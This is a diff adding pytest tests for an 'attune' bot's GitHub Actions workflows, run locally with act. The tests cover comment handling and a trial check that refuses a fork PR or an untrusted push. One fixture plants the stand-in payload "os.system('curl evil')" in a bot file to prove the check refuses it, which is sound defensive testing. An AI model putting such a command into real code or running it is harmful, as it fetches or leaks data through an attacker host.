@@ -324,6 +324,26 @@ def test_a_redelivered_stop_comment_acts_once(act_repo: ActRepo) -> None:
     assert trace(campaign_state(fake, campaign.issue)) == trace(state)
 
 
+def test_a_comment_that_is_no_command_runs_no_job_and_so_joins_no_concurrency_group(act_repo: ActRepo) -> None:
+    """campaign.yml's concurrency group is the job's (tests/github/test_workflows.py checks the YAML): a "+1" on the
+    campaign issue is skipped by the job's ``if``, so it never claims the group a pending ``/attune stop`` waits in;
+    the stop that follows it still acts."""
+    fake = act_repo.fake
+    campaign = started_campaign(act_repo)
+    before = (len(fake.comments), len(fake.dispatches), dict(fake.refs))
+    _, plus_one = campaign.comment("+1")
+    assert plus_one.returncode == 0 and plus_one.jobs == {}, plus_one.tail()
+    assert "advance the campaign" not in "".join(job_lines(plus_one.log)), plus_one.tail()
+    assert (len(fake.comments) - 1, len(fake.dispatches), dict(fake.refs)) == before  # only the +1 itself was added
+    _, stop = campaign.comment("/attune stop")
+    assert stop.jobs == {"advance the campaign": "success"} and "stop: done" in stop.log, stop.tail()
+
+
+def job_lines(log: str) -> list[str]:
+    """act's lines that name a job (``[workflow/job] ...``)."""
+    return [line for line in log.splitlines() if re.match(r"^\[[^\]]+/[^\]]+\]", line)]
+
+
 @pytest.mark.parametrize("case", ["fork", "extra-files"])
 def test_check_refuses_a_fork_pr_and_a_step_branch_with_extra_files(act_repo: ActRepo, case: str) -> None:
     fake = act_repo.fake
@@ -343,15 +363,46 @@ def test_check_refuses_a_fork_pr_and_a_step_branch_with_extra_files(act_repo: Ac
     before = (len(fake.comments), list(fake.statuses), dict(fake.refs))
     run = act_repo.run("trial.yml", "workflow_dispatch", {"ref": "refs/heads/main"}, inputs=inputs)
     assert run.returncode == 0 and why in run.log, run.tail()
-    assert run.jobs == {"check the step is a bot branch of this repository": "success"}, run.jobs  # run, report: skipped
+    # run: skipped; report: ran (a refusal reports back) and found no campaign on issue #9 to close a step of
+    assert run.jobs == {"check the step is a bot branch of this repository": "success", REPORT: "success"}, run.jobs
+    assert "ignored: check refused a run of no campaign on issue #9" in run.log, run.tail()
     assert (len(fake.comments), list(fake.statuses), dict(fake.refs)) == before
     assert not (act_repo.state / "artifacts").exists()
     # job timings, as GitHub's list-jobs serves them (over HTTP, validated against the description)
     with urllib.request.urlopen(f"{act_repo.server.url}/repos/{fake.full_name}/actions/runs/{run.run_id}/jobs") as answer:
         listed = json.loads(answer.read())
     assert [(j["name"], j["status"], j["conclusion"]) for j in listed["jobs"]] == [
-        ("check the step is a bot branch of this repository", "completed", "success")]
+        ("check the step is a bot branch of this repository", "completed", "success"), (REPORT, "completed", "success")]
     assert listed["jobs"][0]["started_at"] <= listed["jobs"][0]["completed_at"]
+
+
+def test_a_trial_check_refused_closes_its_step_with_the_reason_through_the_real_workflows(act_repo: ActRepo) -> None:
+    """A person pushes code onto a step branch after the bot dispatched its trial: trial.yml's check refuses the sha,
+    nothing runs on the runner, and the report job still reports back -- the campaign closes the step as a crashed
+    run with check's reason and goes on, instead of waiting forever."""
+    fake = act_repo.fake
+    campaign = started_campaign(act_repo, budget=370.0)
+    while not any(d["inputs"]["kind"] == "trial" for d in campaign.trial_dispatches()[campaign.answered:]):
+        run = campaign.next_trial()  # the baseline runs (the simulated recipe is calibrated by the bot)
+        assert run.jobs.get(REPORT) == "success", run.tail()
+    trial = next(d["inputs"] for d in campaign.trial_dispatches()[campaign.answered:] if d["inputs"]["kind"] == "trial")
+    pr = int(trial["pr"])
+    fake.seed({"bot/cli/__init__.py": "import os; os.system('curl evil')\n"}, "a person's push", branch=fake.pulls[pr].head_ref)
+
+    run = campaign.next_trial()
+
+    assert run.jobs == {"check the step is a bot branch of this repository": "success", REPORT: "success"}, run.jobs
+    assert f"PR #{pr} head is" in run.log and "trial run refused by check" in run.log, run.tail()
+    assert not (act_repo.state / "artifacts" / str(run.run_id)).exists()  # the runner ran nothing
+    state = campaign_state(fake, campaign.issue)
+    step = state.steps[0]
+    assert step.runs[0].outcome == "crash" and step.runs[0].reason.startswith(f"check refused the run: PR #{pr} head is")
+    assert fake.pulls[pr].state == "closed" and fake.pulls[pr].merged_at is None
+    assert any("check refused the run" in c.body for c in fake.comments.values() if c.issue == pr and c.user == fake.actor)
+    assert len(campaign.trial_dispatches()) > campaign.answered or state.phase == "finished", trace(state)
+
+
+REPORT = "gate, report, merge or close, advance"
 
 
 def test_every_action_the_workflows_use_has_a_valid_local_stand_in() -> None:
